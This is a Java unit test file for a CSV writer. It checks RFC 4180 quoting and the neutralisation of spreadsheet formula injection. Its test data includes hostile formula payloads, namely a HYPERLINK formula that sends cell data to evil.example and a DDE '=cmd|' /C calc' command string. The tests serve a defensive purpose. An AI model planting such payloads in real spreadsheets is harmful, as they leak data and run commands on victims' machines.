package im.tandem.admin.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import im.tandem.support.StrictCsv;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CsvWriterTest {

    /** value, the field exactly as written. */
    static Stream<Arguments> fields() {
        return Stream.of(
                Arguments.of("plain", "plain"),
                Arguments.of("", ""),
                Arguments.of("with space", "with space"),
                Arguments.of("a,b", "\"a,b\""),
                Arguments.of("say \"hi\"", "\"say \"\"hi\"\"\""),
                Arguments.of("\"", "\"\"\"\""),
                Arguments.of("two\nlines", "\"two\nlines\""),
                Arguments.of("cr\rinside", "\"cr\rinside\""),
                Arguments.of("crlf\r\ninside", "\"crlf\r\ninside\""),
                // formula injection: a leading apostrophe, then quoted as needed
                Arguments.of("=HYPERLINK(\"http://evil.example/\",\"click\")",
                        "\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"click\"\")\""),
                Arguments.of("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
                Arguments.of("+1+1", "'+1+1"),
                Arguments.of("-2+3", "'-2+3"),
                Arguments.of("@SUM(A1)", "'@SUM(A1)"),
                Arguments.of("\t=1", "'\t=1"),
                Arguments.of("\r=1", "\"'\r=1\""),
                Arguments.of("=1,2", "\"'=1,2\""),
                // only the first character counts
                Arguments.of("a=1", "a=1"),
                Arguments.of("'=already", "'=already"),
                Arguments.of("2026-12-03T11:27:05Z", "2026-12-03T11:27:05Z"));
    }

    @ParameterizedTest(name = "[{index}] {1}")
    @MethodSource("fields")
    void writesEachFieldEscapedAndNeutralized(String value, String written) {
        assertThat(new CsvWriter().row(value).toString()).isEqualTo(written + "\r\n");
    }

    @Test
    void numbersAndNullsAreWrittenAsTheyAre() {
        assertThat(new CsvWriter().row(-5, 42L, null, "x").toString()).isEqualTo("-5,42,,x\r\n");
    }

    @Test
    void recordsEndInCrlfAndFieldsAreSeparatedByCommas() {
        String csv = new CsvWriter().row("a", "b").row(List.of("c", "d")).toString();
        assertThat(csv).isEqualTo("a,b\r\nc,d\r\n");
    }

    @Test
    void hostileValuesParseBackNeutralizedAndOtherwiseUnchanged() {
        List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0",
                "comma, inside", "quote \" inside", "line\nbreak", "cr\rlf\r\n", "+", "-", "@", "\t", "\r", "",
                "normal", "\"=quoted formula\"", "==", "ünïcödé ✓");
        CsvWriter column = new CsvWriter();
        column.row(List.of("header"));
        for (String value : hostile) {
            column.row(value);
        }
        List<List<String>> records = StrictCsv.parse(column.toString());
        assertThat(records).hasSize(hostile.size() + 1);
        List<String> expected = hostile.stream().map(CsvWriterTest::neutralized).toList();
        for (int i = 0; i < hostile.size(); i++) {
            assertThat(records.get(i + 1)).containsExactly(expected.get(i));
        }
        List<List<String>> wide = StrictCsv.parse(new CsvWriter().row(new ArrayList<Object>(hostile)).toString());
        assertThat(wide).containsExactly(expected);
        records = new ArrayList<>(records);
        records.addAll(wide);
        for (List<String> record : records) {
            for (String field : record) {
                assertThat(field).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    private static String neutralized(String value) {
        return !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
    }

    @Test
    void theStrictReaderRejectsWhatRfc4180Forbids() {
        assertThatThrownBy(() -> StrictCsv.parse("a,b\n")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> StrictCsv.parse("a,b")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> StrictCsv.parse("a\"b\r\n")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> StrictCsv.parse("\"a\"b\r\n")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> StrictCsv.parse("\"a\r\n")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> StrictCsv.parse("a,b\r\nc\r\n")).isInstanceOf(IllegalArgumentException.class);
        assertThat(StrictCsv.parse("a,\"b\"\"\r\n\"\r\n")).containsExactly(List.of("a", "b\"\r\n"));
    }
}
